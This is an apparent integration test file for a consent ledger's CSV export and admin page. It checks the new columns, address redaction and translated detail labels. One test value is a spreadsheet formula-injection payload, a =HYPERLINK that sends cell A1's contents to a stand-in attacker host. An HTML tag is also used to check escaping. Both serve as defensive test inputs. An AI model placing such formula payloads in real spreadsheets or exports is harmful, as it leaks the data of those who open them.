"""The ledger's CSV export carries each step's details, as the consent page and JSON show them,
and the ledger page shows them in words.

A data-protection officer auditing consent from the CSV must see that a step was pressed on a
page that named no notice (``{"notice_shown": false}``), and who in the organisation ended a
person's alerts and why. The new columns come after the twelve existing ones, in their order,
so a consumer reading by position keeps working; their cells are as safe in a spreadsheet as
the others, and no address is in any of them.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from services.subscriptions.adapters.tables import ConsentRecord
from tests.integration.admin.harness import Harness, csrf_token, running, sign_in
from tests.support.csv_exports import csv_text
from tests.support.journey import form_with
from tests.support.words import admin_text

# As consumers of the export have read it since it began: these first, in this order.
FIRST_COLUMNS = [
    "id",
    "occurred_at",
    "subject_hash",
    "action",
    "topics",
    "frequency",
    "language",
    "privacy_version",
    "privacy_hash",
    "page",
    "channel",
    "token_id",
]
NEW_COLUMNS = ["notice_shown", "actor", "reason", "details"]
ENDED_ON_AN_OLD_PAGE = "kari.nordmann@example.org"
ERASED_BY_STAFF = "ola.brev@example.org"
STAFF = "Åse-personvern"
REASON = '=HYPERLINK("https://angriper.example/?d="&A1,"Sak") ringte – sletting, sak 2026/117'


async def _steps_and_exports(h: Harness) -> dict[str, str]:
    """One person erases themself on a page that named no notice, staff erase another with a
    reason; return the ledger CSV as the page and the API give it."""
    token = await h.subscribed(ENDED_ON_AN_OLD_PAGE)
    await h.subscribed(ERASED_BY_STAFF)
    await h.user(STAFF, "dpo")
    _, api_token = await h.token(STAFF)
    async with h.client() as browser:
        # The unsubscribe page as it was before its form named a notice (a tab left open).
        opened = await browser.get(f"/unsubscribe/{token}")
        action, data = form_with(opened.text, "erase")
        old_page = {k: v for k, v in data.items() if not k.startswith("privacy_")}
        assert (await browser.post(action, data=old_page)).status_code == 200
    async with h.client() as browser:
        assert (await sign_in(browser, STAFF)).status_code == 303
        form = await browser.get("/admin/erasure")
        erased = await browser.post(
            "/admin/erasure",
            data={
                "address": ERASED_BY_STAFF,
                "reason": REASON,
                "action": "erase",
                "csrf_token": csrf_token(form.text),
            },
        )
        assert erased.status_code == 200, erased.text
        page = await browser.get("/admin/ledger.csv")
    async with h.client(headers={"Authorization": f"Bearer {api_token}"}) as api:
        answer = await api.get("/api/v1/admin/ledger.csv")
    assert page.status_code == answer.status_code == 200
    return {"page": csv_text(page.content), "api": csv_text(answer.content)}


async def test_the_csv_carries_each_steps_details_after_the_columns_it_had(
    database_url: str, tmp_path: Path
) -> None:
    async with running(database_url, tmp_path) as h:
        exports = await _steps_and_exports(h)
    assert exports["page"] == exports["api"]
    text = exports["page"]
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == FIRST_COLUMNS + NEW_COLUMNS
    assert all(len(row) == len(header) for row in rows)
    steps = [dict(zip(header, row, strict=True)) for row in rows]
    assert [s["action"] for s in steps] == [
        "requested", "confirmed", "requested", "confirmed",
        "unsubscribed", "erased", "unsubscribed", "erased",
    ]  # fmt: skip
    # Signing up and confirming showed their notice and say nothing more.
    for step in steps[:4]:
        assert [step[c] for c in NEW_COLUMNS] == ["", "", "", ""]
    # Ended on a page that named no notice: the marker, and no reason nor staff.
    for step in steps[4:6]:
        assert step["notice_shown"] == "false"
        assert step["actor"] == step["reason"] == ""
        assert json.loads(step["details"]) == {"notice_shown": False}
    # Ended and erased by staff: who and why, the reason starting a formula quoted as the page
    # column's cells are, and its non-ASCII letters as typed.
    for step in steps[6:]:
        assert step["notice_shown"] == ""
        assert step["actor"] == STAFF
        assert step["reason"] == "'" + REASON
        assert json.loads(step["details"]) == {
            "by": "organisation",
            "actor": STAFF,
            "reason": REASON,
        }
    formulas = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
    assert formulas == []
    assert "@" not in text


async def _stored(h: Harness, action: str, channel: str, details: dict[str, Any]) -> None:
    """Store a step whose details hold addresses, as no form lets one in: staff named by theirs,
    and one as the reason."""
    async with h.runtime.sessions() as session, session.begin():
        session.add(
            ConsentRecord(
                subject_hash="0" * 64,
                action=action,
                topics=[],
                channel=channel,
                occurred_at=datetime(2026, 12, 3, 10, 15, tzinfo=UTC),
                details={**details, "actor": "ola@fhi.no", "reason": "kari@x.no"},
            )
        )


async def test_an_address_in_a_steps_details_is_not_exported(
    database_url: str, tmp_path: Path
) -> None:
    # No form lets one in (reasons and staff names refuse an address); a row written by some
    # other way must still not carry one into a file that is passed from hand to hand.
    async with running(database_url, tmp_path) as h:
        await _stored(h, "erased", "admin", {"by": "organisation"})
        await h.user("revisor", "auditor")
        _, token = await h.token("revisor")
        async with h.client(headers={"Authorization": f"Bearer {token}"}) as api:
            text = csv_text((await api.get("/api/v1/admin/ledger.csv")).content)
    (step,) = csv.DictReader(io.StringIO(text))
    assert "@" not in text
    assert step["actor"] == step["reason"] == "[address]"
    assert json.loads(step["details"])["by"] == "organisation"


def shown_details(page: str) -> list[list[tuple[str, str]]]:
    """Return the details cell of every row of the ledger page's table: its (term, value)
    pairs, as text."""

    def text(fragment: str) -> str:
        return html.unescape(re.sub(r"<[^>]+>", "", fragment))

    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    cells = [row.rsplit("<td>", 1)[1] for row in re.findall(r"<tr>.*?</tr>", body, re.S)]
    return [
        [(text(t), text(d)) for t, d in re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", cell, re.S)]
        for cell in cells
    ]


async def test_the_ledger_page_shows_each_steps_details_in_the_readers_language(
    database_url: str, tmp_path: Path
) -> None:
    async with running(database_url, tmp_path) as h:
        await _steps_and_exports(h)
        async with h.client() as browser:
            assert (await sign_in(browser, STAFF)).status_code == 303
            pages = {
                language: await browser.get("/admin/ledger", params={"lang": language})
                for language in ("nb", "nn", "en")
            }
    for language, page in pages.items():
        assert page.status_code == 200
        assert f'<th scope="col">{admin_text(language, "Details")}</th>' in page.text

        def words(text: str, language: str = language) -> str:
            return admin_text(language, text)

        by_staff = [
            (words("Who"), STAFF),
            (words("Reason"), REASON),  # as typed: a page runs no formula, and escapes it
            (words("By"), words("Staff, for the organisation")),
        ]
        not_shown = [(words("Privacy notice"), words("not shown on the page"))]
        # Newest first: erased and ended by staff, then on the old page; sign-ups say nothing.
        assert shown_details(page.text) == [by_staff] * 2 + [not_shown] * 2 + [[]] * 4, language


async def test_an_unknown_detail_is_shown_by_its_code_and_an_address_in_none(
    database_url: str, tmp_path: Path
) -> None:
    async with running(database_url, tmp_path) as h:
        ticket = {"system": "<b>sak</b>", "number": 117}
        await _stored(h, "unsubscribed", "api", {"route": "one-click", "ticket": ticket})
        await h.user("revisor", "auditor")
        async with h.client() as browser:
            assert (await sign_in(browser, "revisor")).status_code == 303
            page = (await browser.get("/admin/ledger", params={"lang": "en"})).text
    assert "fhi.no" not in page and "x.no" not in page
    assert "<b>sak" not in page  # escaped, as any text on a page
    assert shown_details(page) == [
        [
            ("Who", "[address]"),
            ("Reason", "[address]"),
            ("Ended through", "One click in the mail program"),
            ("ticket", '{"number": 117, "system": "<b>sak</b>"}'),
        ]
    ]
